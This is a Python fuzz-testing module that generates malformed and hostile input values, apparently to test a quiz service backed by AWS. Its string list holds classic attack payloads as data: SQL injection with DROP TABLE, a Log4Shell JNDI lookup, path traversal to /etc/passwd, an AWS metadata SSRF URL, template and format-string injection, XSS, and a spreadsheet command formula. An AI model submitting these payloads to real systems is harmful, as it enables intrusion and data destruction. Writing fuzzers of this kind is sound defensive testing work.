"""What people send who mean no good, and programs that are broken."""

from random import Random
from typing import Any

_TEXTS = (
    "",
    " ",
    "\x00",
    "\x7f\x1b[31m\r\n",
    "\ud800",
    "\udfff\ud800",
    "\ufeff\u202e\u2066\u200b",
    "\ufffe\uffff",
    "é" * 200,
    "e\u0301" * 100,
    "\U0001f600" * 130,
    "x" * 129,
    "x" * 5_000,
    "' OR '1'='1'; DROP TABLE questions; --",
    '"}],"correct":true,"x":[{"',
    "attribute_not_exists(quiz_id) OR #k = :v",
    "%s%n%x%d",
    "{0.__class__.__mro__}{question.key}",
    "{{7*7}}${7*7}#{7*7}",
    "${jndi:ldap://example.com/a}",
    "../../../../etc/passwd",
    "..%2f..%2f%00",
    "http://169.254.169.254/latest/meta-data/",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "__proto__",
    "constructor",
    "#summary",
    "game-00000000000000000000#0",
    "general#2",
    "q1",
    "me",
    "null",
    "NaN",
    "true",
    "1e999",
    "-0",
    "9" * 400,
    "2026-13-45T99:99:99+99:99",
    "0001-01-01T00:00:00+23:59",
)
_NUMBERS = (
    0,
    -1,
    1,
    2,
    2**31,
    2**53 + 1,
    2**63,
    -(2**63) - 1,
    2**64,
    10**40,
    10**4000,
    0.1,
    -0.0,
    1e-7,
    1e40,
    1.7976931348623157e308,
    5e-324,
    3.141592653589793238,
)
NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "$where",
    "",
    "\x00",
    "toString",
    "user_id",
    "sub",
    "ttl",
    "key",
    "#",
)
_DEEPEST = 40


def scalar(chance: Random) -> Any:
    """Anything that has no parts."""
    return chance.choice((*_TEXTS, *_NUMBERS, True, False, None, None))


def text(chance: Random) -> str:
    """A text that nobody would type."""
    return chance.choice(_TEXTS)


def whole(value: Any) -> Any:
    """Without half characters, which nothing holds that AWS itself delivers as text."""
    if isinstance(value, str):
        return value.encode(errors="replace").decode()
    if isinstance(value, dict):
        return {whole(name): whole(part) for name, part in value.items()}
    return [whole(part) for part in value] if isinstance(value, list) else value


def anything(chance: Random) -> Any:
    """A value of any type, which may be deep or broad."""
    kind = chance.randrange(10)
    if kind < 6:
        return scalar(chance)
    if kind < 8:
        return [scalar(chance) for _ in range(chance.choice((0, 1, 3, 101)))]
    if kind < 9:
        return {chance.choice(NAMES): scalar(chance), text(chance): scalar(chance)}
    deep: Any = scalar(chance)
    for _ in range(chance.randrange(2, _DEEPEST)):
        deep = [deep] if chance.random() < 0.5 else {"a": deep}
    return deep


def mutated(value: Any, chance: Random) -> Any:
    """The same with something in it replaced, left out, added or doubled."""
    if not isinstance(value, dict | list) or not value or chance.random() < 0.05:
        return anything(chance)
    if isinstance(value, list):
        return _mutated_list(value, chance)
    copy, name = dict(value), chance.choice(list(value))
    match chance.randrange(8):
        case 0:
            del copy[name]
        case 1:
            copy[chance.choice((*NAMES, name.upper(), f"{name} "))] = anything(chance)
        case 2:
            copy[name] = None
        case 3 | 4:
            copy[name] = anything(chance)
        case _:
            copy[name] = mutated(value[name], chance)
    return copy


def _mutated_list(value: list[Any], chance: Random) -> list[Any]:
    copy, place = list(value), chance.randrange(len(value))
    match chance.randrange(4):
        case 0:
            del copy[place]
        case 1:
            copy.insert(place, anything(chance))
        case 2:
            copy += copy[: 200 // len(copy) + 1]
        case _:
            copy[place] = mutated(value[place], chance)
    return copy
